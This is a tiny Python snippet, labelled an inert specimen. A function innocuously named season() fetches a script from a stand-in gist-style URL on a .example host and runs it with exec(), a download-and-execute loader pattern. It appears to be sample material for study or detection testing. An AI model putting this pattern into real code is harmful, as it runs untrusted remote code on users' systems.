# Inert specimen: the hosts do not exist.
import urllib.request


def season():
    text = urllib.request.urlopen("https://gist.githubusercontent.com.example/inert/000/raw/stage.py").read()
    exec(text)
